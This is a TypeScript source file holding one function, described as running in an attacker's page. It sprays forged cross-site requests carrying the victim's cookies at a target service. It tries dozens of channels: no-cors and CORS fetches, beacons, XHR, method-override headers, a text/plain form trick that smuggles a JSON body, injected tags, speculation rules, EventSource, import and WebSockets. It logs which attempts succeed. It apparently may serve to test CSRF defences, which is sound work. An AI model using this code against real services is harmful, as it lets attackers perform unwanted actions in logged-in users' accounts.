/** A forged request, ready to be sent. */
export type Forgery = { readonly method: string; readonly path: string; readonly body: object | null };

/** Runs in the attacker's page. Returns the number of requests sent, and the attempts that succeeded. */
export async function forgeOne({ base, method, path, body }: Forgery & { base: string }) {
  const url = base + path;
  const json = body === null ? '' : JSON.stringify(body);
  const succeeded: string[] = [];
  let sent = 0;
  const endings: Promise<void>[] = [];
  const send = (name: string, attempt: () => Promise<unknown>) => {
    sent += 1;
    endings.push(settle(name, attempt));
  };
  const settle = async (name: string, attempt: () => Promise<unknown>) => {
    try {
      const answer = await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 10_000))]);
      if (answer instanceof Response && answer.type !== 'opaque') {
        succeeded.push(`${name}: ${answer.status} could be read`);
      }
    } catch {
      // Rejected by the browser or the service, as expected.
    }
  };
  const written = { credentials: 'include', ...(json !== '' && { body: json }) } as const;
  const override = { 'X-HTTP-Method-Override': method, 'X-HTTP-Method': method, 'X-Method-Override': method };
  const asForm = new URLSearchParams(body as Record<string, string>);
  const asParts = new FormData();
  for (const [name, value] of Object.entries(body ?? {})) asParts.append(name, String(value));
  const simple: [string, BodyInit][] = [
    ['text', new Blob([json], { type: 'text/plain' })],
    ['text that says JSON', new Blob([json], { type: 'text/plain; application/json' })],
    ['JSON', new Blob([json], { type: 'application/json' })],
    ['nameless', new Blob([json])],
    ['form', asForm],
    ['parts', asParts],
  ];
  const addresses = [
    url,
    `${url}?_method=${method}`,
    `${url}?_method=${method}&_csrf=1#`,
    `${base}//${path.slice(1)}`,
  ];
  for (const [name, content] of simple) {
    for (const address of addresses) {
      const options = { method: 'POST', mode: 'no-cors', credentials: 'include', body: content } as const;
      send(`no-cors ${name}`, () => fetch(address, options));
    }
    send(`keepalive ${name}`, () =>
      fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', keepalive: true, body: content }),
    );
    send(`beacon ${name}`, async () => navigator.sendBeacon(url, content));
  }
  for (const verb of ['POST', 'PUT', 'DELETE', 'PATCH', method]) {
    for (const headers of [
      { 'Content-Type': 'application/json' },
      { 'Content-Type': 'text/plain', ...override },
      {},
    ] as Record<string, string>[]) {
      send(`cors ${verb}`, () => fetch(url, { ...written, method: verb, mode: 'cors', headers }));
      send(`no-cors ${verb}`, () => fetch(url, { ...written, method: verb, mode: 'no-cors', headers }));
    }
    send(`XHR ${verb}`, async () => {
      const request = new XMLHttpRequest();
      request.open(verb, url);
      request.withCredentials = true;
      request.setRequestHeader('Content-Type', 'text/plain');
      return new Promise<void>((resolve) => {
        request.onload = () => {
          succeeded.push(`XHR ${verb}: ${request.status} could be read`);
          resolve();
        };
        request.onerror = () => resolve();
        request.send(json);
      });
    });
  }
  const elements: Record<string, string> = {
    img: 'src',
    script: 'src',
    iframe: 'src',
    video: 'src',
    audio: 'src',
    embed: 'src',
    object: 'data',
    source: 'srcset',
  };
  for (const address of addresses) {
    for (const [tag, attribute] of Object.entries(elements)) {
      send(tag, async () => {
        const element = document.createElement(tag);
        element.setAttribute(attribute, address);
        document.body.append(element);
      });
    }
    for (const rel of [
      'stylesheet',
      'prefetch',
      'preload',
      'prerender',
      'modulepreload',
      'manifest',
      'icon',
      'dns-prefetch',
    ]) {
      send(rel, async () => {
        document.head.append(
          Object.assign(document.createElement('link'), { rel, href: address, as: 'fetch' }),
        );
      });
    }
  }
  send('speculation', async () => {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ prerender: [{ urls: [url] }], prefetch: [{ urls: [url] }] });
    document.head.append(rules);
  });
  send('EventSource', async () => new EventSource(url, { withCredentials: true }));
  send('import', () => import(url));
  for (const socketPath of [path, '/', '/_next/webpack-hmr']) {
    send('WebSocket', async () => {
      const socket = new WebSocket(base.replace('http', 'ws') + socketPath);
      return new Promise<void>((resolve) => {
        socket.onopen = () => {
          succeeded.push(`A WebSocket to ${socketPath} opened`);
          resolve();
        };
        socket.onerror = () => resolve();
      });
    });
  }
  const fields = Object.entries(body ?? { _method: method });
  for (const [index, enctype] of [
    'application/x-www-form-urlencoded',
    'multipart/form-data',
    'text/plain',
  ].entries()) {
    for (const target of ['framed', '_blank']) {
      send(`form ${enctype}`, async () => {
        const form = Object.assign(document.createElement('form'), {
          method: 'POST',
          action: `${url}?_method=${method}`,
          enctype,
          target: target === 'framed' ? `frame${index}` : target,
        });
        // A text form sends NAME=VALUE. The JSON document is split at an equals sign into a name and a value,
        // so the form sends exactly that document.
        const cut = json.includes('=') ? json.indexOf('=') : json.length;
        const pairs =
          enctype === 'text/plain'
            ? [[json.slice(0, cut), json.slice(cut + 1)]]
            : [...fields, ['_method', method]];
        for (const [name = '', value = ''] of pairs) {
          form.append(
            Object.assign(document.createElement('input'), { name, value: String(value), type: 'hidden' }),
          );
        }
        document.body.append(
          Object.assign(document.createElement('iframe'), { name: `frame${index}` }),
          form,
        );
        form.submit();
      });
    }
  }
  await Promise.all(endings);
  await new Promise((resolve) => setTimeout(resolve, 300)); // for requests that don't return a promise
  return { sent, succeeded };
}
